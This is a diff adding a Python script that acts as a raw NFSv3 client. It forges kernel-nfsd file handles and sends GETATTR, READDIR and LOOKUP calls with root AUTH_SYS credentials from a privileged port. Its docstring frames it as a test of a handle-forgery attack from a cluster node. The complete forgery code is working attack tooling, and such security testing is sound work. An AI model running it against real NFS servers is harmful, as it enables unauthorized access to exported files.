@@ -1,0 +1,120 @@
+"""A small NFSv3 client over ONC RPC/TCP that sends file handles it made up itself.
+
+The attacks of issue 11 item 4: a root user on a node forges kernel-nfsd file handles (the
+export's `fsid=` number and an inode/generation pair) and asks GETATTR, READDIR and LOOKUP
+with them. Run as a script inside a namespace holding a node's address:
+
+    python nfs3raw.py SERVER HANDLES.json    # prints {name: [proc, status]} as JSON
+
+HANDLES.json maps a name to a hex handle. A status of 0 (NFS3_OK) means the server answered.
+The client binds a privileged source port (knfsd's default `secure` export option).
+"""
+
+from __future__ import annotations
+
+import json
+import random
+import socket
+import struct
+import sys
+
+NFS_PROGRAM, NFS_V3 = 100003, 3
+GETATTR, LOOKUP, READDIR = 1, 3, 16
+AUTH_SYS = 1
+# knfsd's file handle, version 1: version, auth type, fsid type, fileid type, fsid, fileid.
+FSID_NUM = 1  # a 4-byte `fsid=` number
+FILEID_ROOT = 0  # the export's root: no fileid
+FILEID_INO32_GEN = 1  # ext4's handle: inode, generation
+
+
+def knfsd_handle(fsid: int, ino: int | None = None, generation: int = 0) -> bytes:
+    if ino is None:
+        return bytes([1, 0, FSID_NUM, FILEID_ROOT]) + struct.pack("<I", fsid)
+    return (bytes([1, 0, FSID_NUM, FILEID_INO32_GEN]) + struct.pack("<I", fsid)
+            + struct.pack("<II", ino, generation))
+
+
+def _opaque(data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + data + b"\0" * (-len(data) % 4)
+
+
+def _auth_sys() -> bytes:
+    body = struct.pack(">I", 0) + _opaque(b"forger") + struct.pack(">III", 0, 0, 0)
+    return struct.pack(">I", AUTH_SYS) + _opaque(body)
+
+
+class Nfs3:
+    """One TCP connection from a privileged port; `call` returns the NFS status word."""
+
+    def __init__(self, server: str, port: int = 2049) -> None:
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        for _ in range(50):
+            try:
+                self.sock.bind(("", random.randint(600, 1023)))
+                break
+            except OSError:
+                continue
+        self.sock.settimeout(15)
+        self.sock.connect((server, port))
+        self.xid = random.randint(1, 1 << 30)
+
+    def call(self, proc: int, args: bytes) -> int:
+        self.xid += 1
+        msg = (struct.pack(">IIIIII", self.xid, 0, 2, NFS_PROGRAM, NFS_V3, proc)
+               + _auth_sys() + struct.pack(">II", 0, 0) + args)
+        self.sock.sendall(struct.pack(">I", 0x80000000 | len(msg)) + msg)
+        reply = self._record()
+        xid, mtype, stat = (int(v) for v in struct.unpack(">III", reply[:12]))
+        if xid != self.xid or mtype != 1:
+            raise RuntimeError(f"unexpected reply xid={xid} type={mtype}")
+        if stat != 0:
+            return -1000 - stat  # MSG_DENIED: refused at the RPC layer
+        verf_len = int(struct.unpack(">I", reply[16:20])[0])
+        at = 20 + verf_len + (-verf_len % 4)
+        accept = int(struct.unpack(">I", reply[at:at + 4])[0])
+        if accept != 0:
+            return -2000 - accept  # e.g. GARBAGE_ARGS, SYSTEM_ERR
+        return int(struct.unpack(">I", reply[at + 4:at + 8])[0])
+
+    def _record(self) -> bytes:
+        data = b""
+        while True:
+            header = int(struct.unpack(">I", self._exactly(4))[0])
+            data += self._exactly(header & 0x7FFFFFFF)
+            if header & 0x80000000:
+                return data
+
+    def _exactly(self, n: int) -> bytes:
+        buf = b""
+        while len(buf) < n:
+            chunk = self.sock.recv(n - len(buf))
+            if not chunk:
+                raise RuntimeError("connection closed by the server")
+            buf += chunk
+        return buf
+
+    def getattr(self, fh: bytes) -> int:
+        return self.call(GETATTR, _opaque(fh))
+
+    def lookup(self, fh: bytes, name: str) -> int:
+        return self.call(LOOKUP, _opaque(fh) + _opaque(name.encode()))
+
+    def readdir(self, fh: bytes) -> int:
+        return self.call(READDIR, _opaque(fh) + struct.pack(">QQI", 0, 0, 4096))
+
+
+def attack(server: str, handles: dict[str, str]) -> dict[str, dict[str, int]]:
+    """Every procedure with every handle; the NFS status of each answer."""
+    client = Nfs3(server)
+    results = {}
+    for name, hexfh in handles.items():
+        fh = bytes.fromhex(hexfh)
+        results[name] = {"getattr": client.getattr(fh), "readdir": client.readdir(fh),
+                         "lookup": client.lookup(fh, "etc")}
+    return results
+
+
+if __name__ == "__main__":
+    with open(sys.argv[2]) as fh:
+        wanted = json.load(fh)
+    print(json.dumps(attack(sys.argv[1], wanted)))
